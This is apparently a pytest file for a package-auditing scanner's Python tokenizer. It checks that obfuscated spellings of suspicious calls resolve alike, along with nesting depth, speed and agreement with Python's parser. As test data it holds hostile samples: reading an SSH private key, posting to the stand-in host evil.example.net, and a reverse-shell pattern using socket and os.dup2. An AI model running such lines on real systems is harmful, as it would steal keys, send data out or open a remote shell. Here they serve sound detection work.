"""The scan of Python texts: constants as the language reads them, any depth, linear time."""

import time

import pytest

from packaudit.functions.pytokens import divisions, tokens
from packaudit.operators import python_code as py

PLAIN = {
    'open("/home/x/.ssh/id_rsa")': ['open("/home/x/.s" "sh/id_rsa")', 'open(("/home/x/.ssh/id_rsa"))', "open(\n  ('/home/x/.ssh'\n   '/id_rsa'))", 'open(r"/home/x/.ssh" "/id_rsa")'],
    'requests.post("https://evil.example.net/x")': ['requests.post(("https://evil.example.net/x"))', 'requests.post("https://evil." \'example.net/x\')'],
    'os.system("ls")': ['os.system("l" "s")', 'os.system((("ls")))'],
    'subprocess.run(["bash", x])': ['subprocess.run(["ba" "sh", x])', "subprocess.run([('bash'), x])"],
}


def of(make_files, text):
    t = py.tokens(py.parse(make_files({"p": {"scripts/a.py": text}})))
    called = py.calls(t)
    found = [(r.severity, r.category, r.description) for r in py.call_findings(called).collect()]
    return sorted(found), sorted((r.fn, r.first, r.literal) for r in called.collect())


@pytest.mark.parametrize("plain", PLAIN)
def test_spellings_of_one_constant(make_files, plain):
    want = of(make_files, plain)
    assert want[1]
    for other in PLAIN[plain]:
        assert of(make_files, other) == want, other


def test_depth_marks_and_long_lists(make_files):
    deep = 'subprocess.run(["bash", ' + "f(" * 20 + "1" + ")" * 20 + "])"
    assert [d for _, _, d in of(make_files, deep)[0]] == ["Subprocess with partially dynamic args: subprocess.run(bash, ...)"]
    assert of(make_files, "# note \x01 eval(zz)\nx = 1\n") == ([], [])
    assert ("os.system", "a\x017b", "a\x017b") in of(make_files, 'os.system("a\x017b")')[1]
    items = ", ".join(['"sh"', *['"x"'] * 5000, '"-i"'])
    text = f"import socket, os, subprocess\ns.connect((h, 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call([{items}])\n"
    shells = py.reverse_shells(py.calls(py.tokens(py.parse(make_files({"p": {"scripts/a.py": text}}))))).collect()
    assert [r.severity for r in shells] == ["CRITICAL"]


def test_not_calls_and_lines():
    text = 'def open(a): pass\n"""eval(1)"""\n# eval(2)\nx.y\\\n.z\n\neval(b)\nfoo().read_text()\nf"{open}"\n'
    assert tokens(text) == [('"""eval(1)"""', 2), ("eval(b", 7), ("read_text(", 8), ('f"{open}"', 9)]
    assert tokens('a = "x"\nb = "y"') == [('"x"', 1), ('"y"', 2)]
    assert tokens('a = "x" \\\n "y"') == [('"xy"', 1)]
    assert [t for t, _ in tokens('f("a" f"{b}", b"c" b"d", "e" b"f")')] == ['"a"', 'f"{b}"', 'b"cd"', '"e"', 'b"f"']
    assert [(t.strip(), n) for t, n in divisions('p = Path.home() / ".ssh" / "id"\n# x / "y"\nq = g() / "b"')] == [('Path.home() / ".ssh" / "id"', 1), (') / "b"', 3)]


@pytest.mark.parametrize("piece", ['x = open("a", foo[1], "b") + eval(y); ', "open(", 'open(["a",', '"a" ', '("a" ', "a.b.c ", "((((", "'''x''' / 'a' ", "# c "])
def test_one_line_is_as_fast_as_many(piece):
    n = 300_000 // len(piece)

    def seconds(text):
        start = time.perf_counter()
        tokens(text), divisions(text)
        return time.perf_counter() - start

    seconds(piece * 50)
    assert seconds(piece * n) < 3 * seconds((piece + "\n") * n) + 2


def test_call_tree_against_the_language():
    """Names and enclosing calls of random nested calls, against the interpreter's own parser."""
    import ast
    import random

    rng = random.Random(4)

    def made(depth):
        kind = rng.randrange(6)
        if depth > 6 or kind < 2:
            return rng.choice(["x", "'a (b'", "1", "{'k': [y]}", '"""q)"""'])
        inner = ", ".join(made(depth + 1) for _ in range(rng.randint(0, 3)))
        return [f"f{rng.randrange(9)}({inner})", f"m.n{rng.randrange(9)} ({inner})", f"({inner + ',' if inner else ''})", f"[{inner}]"][kind - 2]

    for _ in range(400):
        text = "\n".join(f"v = {made(0)}  # g(" for _ in range(3)) + "\nif (z): pass\ndef h(a): return (b)\nclass C(D): pass\n"
        tree = []
        tokens(text, tree)
        want = []

        def walk(node, up):
            for child in ast.iter_child_nodes(node):
                if isinstance(child, ast.Call):
                    want.append((ast.unparse(child.func), child.lineno, up))
                    walk(child, ast.unparse(child.func))
                else:
                    walk(child, up)

        walk(ast.parse(text), "")
        got = [(fn, line, tree[up][0] if up >= 0 else "") for fn, line, _, _, _, up in tree]
        assert sorted(got) == sorted(want), text
        for _, _, a, b, depth, up in tree:
            around = [t for t in tree if t[2] < a and t[3] > b]
            assert len(around) == depth and (up < 0) == (not around) and (not around or tree[up] == max(around, key=lambda t: t[2]))


def test_five_calls_have_their_parents():
    tree = []
    tokens("eval(f(g(h(open(p)))))", tree)
    assert [(fn, depth, up) for fn, _, _, _, depth, up in tree] == [("eval", 0, -1), ("f", 1, 0), ("g", 2, 1), ("h", 3, 2), ("open", 4, 3)]
    tree = []
    tokens("open(" * 50_000, tree)
    assert len(tree) == 50_000 and tree[-1][4] == 49_999
